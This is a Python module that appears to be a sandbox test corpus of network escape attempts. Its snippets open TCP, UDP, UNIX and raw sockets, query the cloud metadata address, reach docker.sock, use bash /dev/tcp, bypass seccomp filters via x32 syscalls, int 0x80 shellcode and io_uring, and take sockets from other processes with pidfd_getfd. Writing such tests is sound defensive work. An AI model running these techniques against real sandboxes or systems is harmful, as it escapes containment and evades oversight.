"""Ways out of the machine, and across it: every kind of socket, and the ways around a filter on sockets."""

# ruff: noqa: E501  (the lines of attackers are as long as they are)

from functools import partial

from attacks.corpus import code

code = partial(code, theme="network")

LIMITED = {"limited": "this tier has no way to forbid sockets"}

code(
    "tcp-and-udp",
    "sends a message to a server of this machine, by TCP and UDP, IPv4 and IPv6",
    """
import socket
for family, host, port in ((socket.AF_INET, '127.0.0.1', KNOWN['tcp']), (socket.AF_INET6, '::1', KNOWN['tcp6'])):
    try:
        socket.create_connection((host, port), timeout=1).send(KNOWN['attack'].encode())
        leaked('TCP ' + host)
    except OSError as error:
        print(error)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(KNOWN['attack'].encode(), ('127.0.0.1', KNOWN['udp']))
except OSError as error:
    print(error)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
code(
    "names-and-the-web",
    "resolves a name, asks the cloud's metadata address, downloads a page, installs a package",
    """
import socket, subprocess, urllib.request
socket.setdefaulttimeout(1)
def resolve():
    socket.getaddrinfo('unrolled-canary.example', 80)
    return 'a name was resolved'
def metadata():
    urllib.request.urlopen('http://169.254.169.254/', timeout=1)
    return 'metadata'
def local_page():
    urllib.request.urlopen('http://127.0.0.1:%d/' % KNOWN['tcp'], timeout=1)
for way in (resolve, metadata, local_page):
    try:
        leaked(way())
    except Exception as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
    unsafe="sends requests to the network",
)
code(
    "other-programs-connect",
    "lets bash, Python and Perl do the connecting",
    """
import subprocess
port = KNOWN['tcp']
for command in (['bash', '-c', f'echo hello > /dev/tcp/127.0.0.1/{port}'],
                [sys.executable, '-c', f'import socket; socket.create_connection(("127.0.0.1", {port}), 1).send(b"other program")'],
                ['perl', '-MIO::Socket::INET', '-e', f'IO::Socket::INET->new("127.0.0.1:{port}") or die']):
    try:
        if subprocess.run(command, capture_output=True, timeout=5).returncode == 0:
            leaked(command[0])
    except (OSError, subprocess.TimeoutExpired) as error:
        print(type(error).__name__)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
code(
    "unix-sockets",
    "connects to UNIX sockets of the machine's owner, by path and by abstract name, as docker's or ssh-agent's would be",
    """
import socket
for address in [*KNOWN['unix'], '\\0' + KNOWN['abstract'], '/run/docker.sock', '/run/dbus/system_bus_socket', '/dev/log']:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_UNIX, kind)
            s.settimeout(1)
            s.connect(address)
            leaked('UNIX socket ' + address)
        except OSError as error:
            print(error)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
code(
    "odd-families",
    "opens raw, packet, netlink, vsock, crypto and SCTP sockets",
    """
import socket
for family, kind, protocol in ((2, 3, 1), (17, 3, 768), (16, 3, 0), (40, 1, 0), (38, 5, 0), (2, 1, 132), (44, 3, 0)):
    try:
        s = socket.socket(family, kind, protocol)
    except OSError as error:
        print(family, error)
        continue
    try:
        if family == 2 and kind == 3:
            s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('127.0.0.1', 0))
            s.settimeout(0.5)
            leaked('raw ' + repr(s.recv(40)[-8:]))
        elif family == 2:
            s.settimeout(1)
            s.connect(('127.0.0.1', KNOWN['tcp']))
            leaked('SCTP')
    except OSError as error:
        print(family, error)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)

KICK = """
import socket
def kick(fd, how):
    if fd < 0:
        print(how, 'refused')
        return
    try:
        s = socket.socket(fileno=fd)
        s.sendto(KNOWN['attack'].encode(), ('127.0.0.1', KNOWN['udp']))
        print(how, 'sent')
    except OSError as error:
        print(how, error)
"""

code(
    "thirty-two-bit-calls",
    "asks for a socket through the 32-bit and x32 tables of system calls, which a careless filter does not look at",
    KICK
    + """
import mmap
libc = ctypes.CDLL(None, use_errno=True)
kick(libc.syscall(0x40000000 | 41, 2, 2, 0), 'x32')
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex('53b867010000bb02000000b90200000031d2cd805bc3'))
entry = ctypes.addressof(ctypes.c_char.from_buffer(page))
# in a child: a filter may well kill for this
if os.fork() == 0:
    kick(ctypes.CFUNCTYPE(ctypes.c_int)(entry)(), 'int 80')
    os._exit(0)
os.wait()
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
code(
    "io-uring",
    "makes the socket, and sends, through io_uring, where a filter on system calls sees nothing",
    KICK
    + """
import mmap, struct
libc = ctypes.CDLL(None, use_errno=True)
def by_ring():
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    if ring < 0:
        return -1
    sq, cq = struct.unpack_from('10I', parameters, 40), struct.unpack_from('10I', parameters, 80)
    rings = mmap.mmap(ring, max(sq[6] + 16, cq[5] + 4 * 16 + 64), offset=0)
    entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
    # IORING_OP_SOCKET: domain in fd, type in off, protocol in len
    entries[:64] = struct.pack('BBHiQQIIQ24x', 45, 0, 0, 2, 2, 0, 0, 0, 1)
    rings[sq[6]:sq[6] + 4] = struct.pack('I', 0)
    rings[sq[1]:sq[1] + 4] = struct.pack('I', 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)
    return struct.unpack_from('Qi', rings, cq[5])[1]
try:
    kick(by_ring(), 'io_uring')
except (OSError, ValueError) as error:
    print(error)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
code(
    "sockets-from-others",
    "takes sockets from other processes: pidfd_getfd, /proc/PID/fd, and descriptors sent over UNIX sockets",
    """
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), KNOWN['victim'], 1):
    pidfd = libc.syscall(434, pid, 0)
    if pidfd >= 0 and pid != os.getpid():
        for fd in range(64):
            if libc.syscall(438, pidfd, fd, 0) >= 0:
                leaked('descriptor %d of %d' % (fd, pid))
                break
""",
    honest=["softsign"],
    not_stopped={"limited": "processes of one user may look into each other in this tier"},
)
code(
    "servers",
    "listens on a port of this machine and on a UNIX socket that outlives it",
    """
import socket
kept = []
for family, address in ((socket.AF_INET, ('0.0.0.0', 0)), (socket.AF_INET6, ('::', 0))):
    try:
        s = socket.socket(family)
        s.bind(address)
        s.listen()
        kept.append(s)
        print('listens', s.getsockname())
    except OSError as error:
        print(error)
for place in KNOWN['drops']:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind(place + '/s')
        leaked('a socket in ' + place)
    except OSError as error:
        print(error)
""",
    honest=["softsign"],
    not_stopped=LIMITED,
)
